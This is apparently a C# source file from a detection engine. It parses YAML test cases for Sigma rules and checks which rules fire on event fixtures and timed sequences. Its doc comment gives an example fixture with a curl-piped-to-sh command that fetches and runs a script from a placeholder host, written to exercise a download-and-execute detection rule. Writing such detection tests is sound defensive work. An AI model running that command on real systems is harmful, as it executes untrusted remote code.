using System.Globalization;
using System.Text.Json;
using System.Text.Json.Nodes;
using Atalaya.Core.Schema;
using YamlDotNet.Core;
using YamlDotNet.RepresentationModel;

namespace Atalaya.Core.Detection.Sigma;

/// <summary>
/// Declarative test cases for rules (<c>*.cases.yaml</c> beside a rule): each case is an event
/// fixture (ECS as YAML, or <c>event_json</c>) and the rule ids expected to match it, or
/// <c>none</c>. <c>rules:</c> names the rule files the cases exercise (default: the file with the
/// same stem beside it). Matching is exact: an expected rule that stays silent fails, and so does
/// a loaded rule that fires unexpectedly. A case is run through <see cref="SigmaAnalytic"/> as the
/// agent runs it, so "matched" means "raised a signal": a rule that only feeds a correlation
/// (without <c>generate: true</c>) is silent, and a correlation fires when its events arrive.
/// Correlations need a sequence: <c>events:</c> lists steps, each an <c>event</c>/<c>event_json</c>
/// fixture with optional <c>repeat: N</c> and <c>after: 5s</c> (the gap before each occurrence;
/// default 1s). Timestamps are assigned from 2026-01-01T00:00:00Z on. A case with <c>log_line</c>
/// (keyword rules) is matched rule by rule against that line instead.
/// <code>
/// rules: [download_and_execute.yml]
/// cases:
///   - name: curl piped to sh
///     event:
///       event: { category: [process], type: [start] }
///       process: { executable: /usr/bin/bash, command_line: "bash -c 'curl -s http://x/a | sh'" }
///     expect: [3b0c0b5e-...]
/// </code>
/// </summary>
public sealed class SigmaCaseFile
{
    private SigmaCaseFile(IReadOnlyList<string> ruleFiles, IReadOnlyList<SigmaCase> cases)
    {
        RuleFiles = ruleFiles;
        Cases = cases;
    }

    /// <summary>Rule files relative to the cases file.</summary>
    public IReadOnlyList<string> RuleFiles { get; }

    public IReadOnlyList<SigmaCase> Cases { get; }

    /// <summary>Parses a cases file; throws <see cref="FormatException"/> naming the line of the problem.</summary>
    public static SigmaCaseFile Parse(string casesFileName, string text)
    {
        var stream = new YamlStream();
        try
        {
            stream.Load(new StringReader(text));
        }
        catch (YamlException ex)
        {
            throw new FormatException($"invalid YAML at line {ex.Start.Line}: {ex.Message}", ex);
        }

        if (stream.Documents.Count != 1 || stream.Documents[0].RootNode is not YamlMappingNode root)
        {
            throw new FormatException("a cases file is one YAML mapping with 'cases:'");
        }

        var ruleFiles = SigmaRuleLoader.Child(root, "rules") switch
        {
            YamlScalarNode { Value: { Length: > 0 } one } => [one],
            YamlSequenceNode list => list.OfType<YamlScalarNode>().Select(n => n.Value ?? "").Where(v => v.Length > 0).ToList(),
            null => [DefaultRuleFile(casesFileName)],
            var other => throw new FormatException($"'rules' must be a file name or a list at line {other.Start.Line}"),
        };

        if (SigmaRuleLoader.Child(root, "cases") is not YamlSequenceNode caseNodes || caseNodes.Children.Count == 0)
        {
            throw new FormatException("missing 'cases:' list");
        }

        var cases = new List<SigmaCase>();
        foreach (var node in caseNodes)
        {
            if (node is not YamlMappingNode item)
            {
                throw new FormatException($"each case must be a mapping (line {node.Start.Line})");
            }

            var name = (SigmaRuleLoader.Child(item, "name") as YamlScalarNode)?.Value ?? $"case at line {item.Start.Line}";
            var sequence = SigmaRuleLoader.Child(item, "events") is { } steps ? ReadSequence(steps, name) : null;
            var value = sequence is null ? ReadEvent(item, name) : sequence[0];
            var expect = SigmaRuleLoader.Child(item, "expect") switch
            {
                YamlScalarNode { Value: "none" } => [],
                YamlScalarNode { Value: { Length: > 0 } one } => [one],
                YamlSequenceNode list => list.OfType<YamlScalarNode>().Select(n => n.Value ?? "").ToList(),
                _ => throw new FormatException($"case '{name}' (line {item.Start.Line}): 'expect' must be rule ids or none"),
            };
            var rawLine = (SigmaRuleLoader.Child(item, "log_line") as YamlScalarNode)?.Value;
            cases.Add(new SigmaCase(name, value, rawLine, expect, item.Start.Line, sequence));
        }

        return new SigmaCaseFile(ruleFiles, cases);
    }

    /// <summary>Runs every case against the rules (a fresh analytic per case); one result per case, in order.</summary>
    public IReadOnlyList<SigmaCaseResult> Run(SigmaRuleSet rules) =>
        [.. Cases.Select(c =>
        {
            List<string> matched;
            if (c.RawLine is not null)
            {
                matched = rules.Candidates(c.Event).Where(r => r.Matches(c.Event, c.RawLine)).Select(r => r.Id).ToList();
            }
            else
            {
                var analytic = new SigmaAnalytic(rules);
                var sink = new IdSink();
                foreach (var value in c.Events)
                {
                    analytic.Observe(value, sink);
                }

                matched = [.. sink.Ids.Distinct(StringComparer.Ordinal)];
            }

            var passed = matched.Order(StringComparer.Ordinal).SequenceEqual(c.Expect.Distinct().Order(StringComparer.Ordinal));
            return new SigmaCaseResult(c, matched, passed);
        })];

    /// <summary>Most steps one sequence case may expand to (repeat included).</summary>
    public const int MaxSequenceEvents = 100_000;

    private static List<EcsEvent> ReadSequence(YamlNode node, string name)
    {
        if (node is not YamlSequenceNode steps || steps.Children.Count == 0)
        {
            throw new FormatException($"case '{name}' (line {node.Start.Line}): 'events' must be a list of steps");
        }

        var events = new List<EcsEvent>();
        var at = DateTimeOffset.Parse("2026-01-01T00:00:00Z", CultureInfo.InvariantCulture);
        foreach (var stepNode in steps)
        {
            if (stepNode is not YamlMappingNode step)
            {
                throw new FormatException($"case '{name}' (line {stepNode.Start.Line}): each step is a mapping with 'event:'");
            }

            var repeat = 1;
            if (SigmaRuleLoader.Child(step, "repeat") is { } repeatNode
                && (repeatNode is not YamlScalarNode { Value: { } repeatText } || !int.TryParse(repeatText, NumberStyles.None, CultureInfo.InvariantCulture, out repeat) || repeat < 1))
            {
                throw new FormatException($"case '{name}' (line {repeatNode.Start.Line}): 'repeat' must be a positive count");
            }

            var gap = TimeSpan.FromSeconds(1);
            if (SigmaRuleLoader.Child(step, "after") is { } afterNode
                && (afterNode is not YamlScalarNode { Value: { } afterText } || !SigmaCorrelationLoader.TryParseTimespan(afterText, out gap)))
            {
                throw new FormatException($"case '{name}' (line {afterNode.Start.Line}): 'after' must be a duration such as 30s, 5m, 1h");
            }

            var value = ReadEvent(step, name);
            for (var i = 0; i < repeat; i++)
            {
                if (events.Count == MaxSequenceEvents)
                {
                    throw new FormatException($"case '{name}': more than {MaxSequenceEvents} events");
                }

                if (events.Count > 0)
                {
                    at += gap;
                }

                events.Add(value with { Timestamp = at });
            }
        }

        return events;
    }

    private static string DefaultRuleFile(string casesFileName)
    {
        var name = System.IO.Path.GetFileName(casesFileName);
        var stem = name.EndsWith(".cases.yaml", StringComparison.Ordinal) ? name[..^".cases.yaml".Length]
            : name.EndsWith(".cases.yml", StringComparison.Ordinal) ? name[..^".cases.yml".Length]
            : System.IO.Path.GetFileNameWithoutExtension(name);
        return stem + ".yml";
    }

    private static EcsEvent ReadEvent(YamlMappingNode item, string name)
    {
        JsonNode? json;
        if (SigmaRuleLoader.Child(item, "event_json") is YamlScalarNode { Value: { } text })
        {
            try
            {
                json = JsonNode.Parse(text);
            }
            catch (JsonException ex)
            {
                throw new FormatException($"case '{name}': event_json is not JSON: {ex.Message}", ex);
            }
        }
        else if (SigmaRuleLoader.Child(item, "event") is YamlMappingNode yaml)
        {
            json = ToJson(yaml);
        }
        else
        {
            throw new FormatException($"case '{name}' (line {item.Start.Line}) needs 'event:' (ECS as YAML) or 'event_json:'");
        }

        if (json is not JsonObject root)
        {
            throw new FormatException($"case '{name}': the event must be an object");
        }

        // Fixtures state what matters to the rule; the envelope ECS requires is filled in.
        root["@timestamp"] ??= "2026-01-01T00:00:00Z";
        if (root["event"] is not JsonObject eventSection)
        {
            throw new FormatException($"case '{name}': the event needs 'event: {{ category: [...] }}'");
        }

        eventSection["kind"] ??= EventKinds.Event;
        eventSection["type"] ??= new JsonArray(EventTypes.Start);
        if (eventSection["category"] is null)
        {
            throw new FormatException($"case '{name}': the event needs event.category");
        }

        try
        {
            return EcsJson.Deserialize(root.ToJsonString());
        }
        catch (JsonException ex)
        {
            throw new FormatException($"case '{name}': the event is not a valid ECS event: {ex.Message}", ex);
        }
    }

    private static JsonNode? ToJson(YamlNode node) => node switch
    {
        YamlMappingNode map => new JsonObject(map.Children.Select(kv =>
            KeyValuePair.Create(((YamlScalarNode)kv.Key).Value ?? "", ToJson(kv.Value)))),
        YamlSequenceNode list => new JsonArray([.. list.Select(ToJson)]),
        YamlScalarNode scalar => Scalar(scalar),
        _ => null,
    };

    private sealed class IdSink : Analytics.ISignalSink
    {
        public List<string> Ids { get; } = [];

        public void Emit(Analytics.Signal signal) => Ids.Add(signal.SourceId);
    }

    private static JsonNode? Scalar(YamlScalarNode scalar)
    {
        var value = scalar.Value ?? "";
        if (scalar.Style != ScalarStyle.Plain)
        {
            return JsonValue.Create(value);
        }

        if (value is "" or "~" or "null")
        {
            return null;
        }

        if (value is "true" or "false")
        {
            return JsonValue.Create(value == "true");
        }

        return long.TryParse(value, NumberStyles.AllowLeadingSign, CultureInfo.InvariantCulture, out var number)
            ? JsonValue.Create(number)
            : JsonValue.Create(value);
    }
}

/// <summary>One case: an event (or a timed sequence of events), an optional raw log line, and the rule ids expected to match.</summary>
public sealed record SigmaCase(string Name, EcsEvent Event, string? RawLine, IReadOnlyList<string> Expect, long Line, IReadOnlyList<EcsEvent>? Sequence = null)
{
    /// <summary>The events fed in order: the sequence, or the one event.</summary>
    public IReadOnlyList<EcsEvent> Events => Sequence ?? [Event];
}


/// <summary>What a case matched and whether that is what it expected.</summary>
public sealed record SigmaCaseResult(SigmaCase Case, IReadOnlyList<string> Matched, bool Passed);
